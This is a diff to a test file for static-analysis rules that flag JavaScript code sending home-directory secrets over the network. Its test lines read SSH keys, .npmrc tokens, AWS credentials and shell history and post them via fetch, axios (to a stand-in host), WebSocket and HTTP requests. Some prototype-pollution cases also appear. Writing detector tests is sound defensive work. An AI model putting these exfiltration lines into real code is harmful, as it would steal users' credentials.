@@ -1,5 +1,11 @@
 // Tests for exfiltration.yaml.
 const https = require('https');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+import { readFileSync as slurp } from 'node:fs';
+const { readFileSync } = require('fs');
+import * as fsp from 'node:fs/promises';
 
 async function cases(url, req, ws, axios, obj, key, value) {
   // ruleid: js.exfil.env-over-network
@@ -19,6 +25,19 @@ async function cases(url, req, ws, axios, obj, key, value) {
   // ok: js.exfil.env-over-network
   await fetch(url, { method: 'POST', body: data });
 
+  // ruleid: js.exfil.home-file-over-network
+  await fetch(url, { method: 'POST', body: fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') });
+  // ruleid: js.exfil.home-file-over-network
+  req.end(JSON.stringify({ k: fs.readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8') }));
+  // ruleid: js.exfil.home-file-over-network
+  axios.post('https://x.example/u', { aws: await fsp.readFile(path.join(os.homedir(), '.aws', 'credentials')) });
+  // ok: js.exfil.home-file-over-network
+  await fetch(url, { method: 'POST', body: fs.readFileSync(path.join(__dirname, 'report.json')) });
+  // ok: js.exfil.home-file-over-network
+  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
+  // ok: js.exfil.home-file-over-network
+  console.log(fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'));
+
   // ruleid: js.prototype-pollution.proto-write
   obj.__proto__.isAdmin = true;
   // ruleid: js.prototype-pollution.proto-write
@@ -35,4 +54,18 @@ async function cases(url, req, ws, axios, obj, key, value) {
   const p = obj.__proto__;
 }
 
-module.exports = cases;
+function later(ws, req) {
+  const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519'), 'utf8');
+  const info = { host: os.hostname() };
+  // ruleid: js.exfil.home-file-over-network
+  ws.send(JSON.stringify({ info, key }));
+  const tok = slurp(path.join(os.homedir(), '.npmrc'), 'utf8');
+  // todoruleid: js.exfil.home-file-over-network
+  ws.send(tok);
+  // ok: js.exfil.home-file-over-network
+  req.write(JSON.stringify(info));
+  // ruleid: js.exfil.home-file-over-network
+  req.write(readFileSync(os.homedir() + '/.bash_history'));
+}
+
+module.exports = { cases, later };
